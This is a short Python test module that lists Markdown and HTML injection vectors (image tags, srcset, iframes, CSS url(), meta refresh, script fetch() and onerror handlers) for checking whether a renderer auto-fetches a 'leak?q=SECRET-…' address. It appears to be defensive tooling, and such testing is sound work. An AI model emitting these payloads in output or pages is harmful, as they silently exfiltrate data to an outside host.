"""Message text that would make a browser fetch an address by itself, were it rendered as written:
each way in Markdown and raw HTML, each naming its own `leak?q=SECRET-...` so a request tells which got through."""

VECTORS = {
    "MD": "![t]({leak})",
    "MD-TITLED": '![t]({leak} "a title")',
    "MD-REF": "![r][pic]\n\n[pic]: {leak}",
    "MD-NESTED": "[![x]({leak})](https://example.invalid/)",
    "MD-TABLE": "| a | b |\n| --- | --- |\n| ![c]({leak}) | `d | <img src={leak}-cell>` |",
    "HTML": "<img src='{leak}'>",
    "SRCSET": '<img srcset="{leak} 1x" alt="s">',
    "PICTURE": '<picture><source srcset="{leak}"><img alt="p"></picture>',
    "IFRAME": '<iframe src="{leak}"></iframe>',
    "VIDEO": '<video src="{leak}" autoplay muted></video> <video poster="{leak}-poster"></video>',
    "AUDIO": '<audio autoplay><source src="{leak}"></audio>',
    "PRELOAD": '<link rel="preload" as="image" href="{leak}"><link rel="prefetch" href="{leak}-prefetch">',
    "CSS": '<div style="background-image: url({leak})">styled</div><style>p {{ background: url({leak}-sheet) }}</style>',
    "OBJECT": '<object data="{leak}"></object><embed src="{leak}-embed">',
    "REFRESH": '<meta http-equiv="refresh" content="0; url={leak}">',
    "INPUT": '<input type="image" src="{leak}">',
    "SVG": '<svg><image href="{leak}"></image></svg>',
    "TABLE-BG": '<table background="{leak}"><tr><td>t</td></tr></table>',
    "SCRIPT": "<script>fetch('{leak}')</script>",
    "ONERROR": "<img src=x onerror=\"fetch('{leak}')\">",
    "QUOTED": "> <img src='{leak}'>",
    "LIST": "- item\n\n  <img src='{leak}'>",
    "LATEX": "$$<img src='{leak}'>$$",
    "CODE-SPAN": "`<img src='{leak}'>` and ``![x]({leak}-span)``",
}


def leak_url(base: str, name: str) -> str:
    return f"{base}/leak?q=SECRET-{name}"


def hostile_text(base: str) -> str:
    """Every vector, as one message; `base` is the address a leak would reach (http://host:port)."""
    return "\n\n".join(f"{name}:\n\n" + text.format(leak=leak_url(base, name)) for name, text in VECTORS.items())
